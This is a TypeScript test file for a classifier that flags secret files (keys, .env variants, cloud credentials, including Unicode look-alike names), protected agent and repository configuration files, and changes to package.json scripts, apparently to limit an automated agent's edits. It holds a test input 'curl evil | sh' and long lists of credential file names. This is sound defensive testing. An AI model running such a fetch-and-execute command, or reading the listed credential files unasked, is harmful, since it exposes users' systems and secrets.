import { describe, expect, it } from 'vitest'
import { gateData } from '../../../../tests/fakes/rigs/gate-rig.ts'
import { seededRandom } from '../../../../tests/fakes/seeded-random.ts'
import { pathGlob } from '../../../shared/text/paths/glob.ts'
import { fileKinds } from './file-kinds.ts'

const { kinds } = await gateData()

describe('a secret', () => {
  it.each([
    ...['.env', 'a/.env.local', '.ENV', 'prod.env', 'certs/server.pem', 'id_rsa', 'home/.ssh/config'],
    ...['.npmrc', 'credentials', 'config/credentials.yml', '.aws/config', 'terraform.tfstate', 'token.json'],
    ...[
      '.ssh/notes.md',
      '.ssh',
      '.env~',
      '#.env#',
      '.env.swp',
      '.server.key.swp',
      'server.key.bak',
      'vendor/.env.old~',
    ],
    ...[
      '.env-prod',
      '.env_local',
      '.env 2',
      '.env2',
      '.env (1)',
      '.env copy',
      '.env のコピー',
      'Copy of .env',
    ],
    ...[
      'api.env.local',
      'docker/prod.env.production',
      'my.env.json',
      'x.env-old',
      'AuthKey.p8',
      'app.keytab',
    ],
    ...['.npmrc-work', '.netrc.save-1', 'deploy.key.txt', 'deploy.key (2)', 'deploy.keyのコピー'],
    ...[
      'deploy.key.20240101',
      'deploy.key-2024-01-01',
      'copy_of_deploy.key',
      'prod.env - copy',
      'my.pem_old',
    ],
    ...[
      'kubeconfig',
      'service_account-1.json',
      'x-firebase-adminsdk-2.json',
      '.m2/settings.xml',
      '.bash_history',
    ],
    ...[
      'ssh_host_rsa_key',
      'passwords.txt',
      'password (1).txt',
      'api_key.txt',
      'vault.yml',
      'auth.json~',
      'env.local',
    ],
    // The same file where a system folds names.
    ...['ID_RſA', '．ｅｎｖ', '.e\u200cnv', 'certs/ſerver.PEM', '.npm\u00adrc', '.\u{1d41e}nv'],
    ...['.env.', '.env ', 'id_rsa .', '.ssh./config', '.aws /config', 'deploy.key\u200b'],
  ])('is %s', (path) => expect(kinds.isSecret(path)).toBe(true))

  it.each([
    ...['.env.example', 'id_rsa.pub', 'src/credentials.ts', 'tokenizer.json', 'environment.md', 'key.ts'],
    ...['vite.env.d.ts', 'prod.env.example', 'prod.env.template', 'api.env.local.sample', 'docs/the.env.md'],
    ...[
      'secret.txt',
      'password-reset.tsx',
      'history.txt',
      'oauth.json',
      'api-keys.md',
      'vault.ts',
      'keys.ts',
    ],
    ...['第三章 秘密.txt', 'secret-garden.txt', 'env/readme.txt', 'src/token.ts'],
    ...['.env-example', '.env_sample', '.npmrc.example', '.envoy.yaml', '.env-check.ts', '.editorconfig-2'],
    ...[
      'cookies-policy.html',
      'shadow-dom.png',
      'cookies and cream.txt',
      'notes.txt',
      'key 2.txt',
      '第2章 (1).txt',
    ],
  ])('is not %s', (path) => expect(kinds.isSecret(path)).toBe(false))
})

it('answers about a name by its folder, and again as at first', () => {
  const asked = { '.aws/config': true, 'app/config': false, 'a/.env': true, '/.env': true, '.env': true }
  for (let round = 0; round < 2; round++) {
    for (const [path, isOne] of Object.entries(asked)) {
      const nameAt = path.lastIndexOf('/') + 1
      expect(kinds.isSecretIn(path.slice(0, nameAt), path.slice(nameAt)), path).toBe(isOne)
      expect(kinds.isSecret(path), path).toBe(isOne)
    }
  }
})

describe('a protected file', () => {
  it.each([
    ...[
      '.git/config',
      '.git',
      'sub/.git/hooks/pre-commit',
      'AGENTS.md',
      'docs/CLAUDE.md',
      '.tsugi/rules.json',
    ],
    ...[
      '.vscode/settings.json',
      '.bashrc',
      '.husky/pre-commit',
      '.claude/settings.json',
      'claude.md',
      '.GIT/config',
    ],
  ])('is %s', (path) => expect(kinds.isProtected(path)).toBe(true))

  it.each(['src/git.ts', 'github.md', 'agents.ts', '.gitignore', 'tsugi/rules.json'])('is not %s', (path) =>
    expect(kinds.isProtected(path)).toBe(false),
  )

  it('is not each change of package.json, but each of its scripts', () => {
    const before = '{"name":"a","scripts":{"test":"x"}}'
    const key = (newText: string | null, oldText: string | null = before) =>
      kinds.changedKey('app/package.json', oldText, newText)
    expect(key('{"name":"b","scripts":{"test":"x"}}')).toBeNull()
    expect(key('{"name":"a","scripts":{"test":"curl evil | sh"}}')).toBe('scripts')
    expect(key('{"name":"a"}')).toBe('scripts')
    expect(key('{"name":"a","bin":"x"}', '{"name":"a"}')).toBe('bin')
    expect(key('{"scripts":{"a":"b"}}', null)).toBe('scripts')
    expect(key('{"name":"a"}', null)).toBeNull()
    expect(key('{ not json', before)).toBe('scripts')
    expect(key(before, '{ not json')).toBe('scripts')
    expect(kinds.changedKey('other.json', before, '{}')).toBeNull()
  })
})

it('knows what runs, what is locked and what is never written', () => {
  expect(kinds.isCi('.github/workflows/ci.yml')).toBe(true)
  expect(kinds.isCi('src/workflows/ci.yml')).toBe(false)
  expect(kinds.isScript('bin/run.sh')).toBe(true)
  expect(kinds.isScript('Makefile')).toBe(true)
  expect(kinds.isLock('web/package-lock.json')).toBe(true)
  expect(kinds.isExecutable('a/tool.EXE')).toBe(true)
  expect(kinds.isExecutable('lib/x.so.1')).toBe(true)
  expect(kinds.isExecutable('src/x.ts')).toBe(false)
})

it('takes a path exactly where its pattern does, also where the pattern is not asked', () => {
  const random = seededRandom(7)
  const oneOf = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T
  const some = (pieces: readonly string[], most: number): string =>
    Array.from({ length: 1 + Math.floor(random() * most) }, () => oneOf(pieces)).join('')
  const none = { about: '', secrets: [], notSecrets: [], unsearched: [], ci: [], scripts: [], locks: [] }
  const counts = { matched: 0, refused: 0 }
  for (let round = 0; round < 20_000; round++) {
    const name = some(['a', '.b', '*', '?', '[ab]', '{a,.b}', 'É', 'K', '-'], 4)
    // A name without a star or a slash is compared as it stands.
    const pattern = random() < 0.5 ? `**/${name}/**` : `*${name}`
    const path = some(['a', '.b', 'B', '/', '\\', 'é', 'k', 'K', '-', 'e\u0301'], 5)
    const { isProtected } = fileKinds({ ...none, executables: [], keys: {}, protected: [pattern] })
    const last = path.split(/[/\\]/).findLast((part) => part !== '' && part !== '.') ?? ''
    const matched = pathGlob(pattern, 'wide')(pattern.includes('/') ? path : last)
    expect(isProtected(path) || !matched, `${pattern} of ${path}`).toBe(true)
    if (/^[\x20-\x7e]*$/.test(path)) expect(isProtected(path), `${pattern} of ${path}`).toBe(matched)
    counts[matched ? 'matched' : 'refused'] += 1
  }
  expect(Math.min(counts.matched, counts.refused)).toBeGreaterThan(1_000)
})
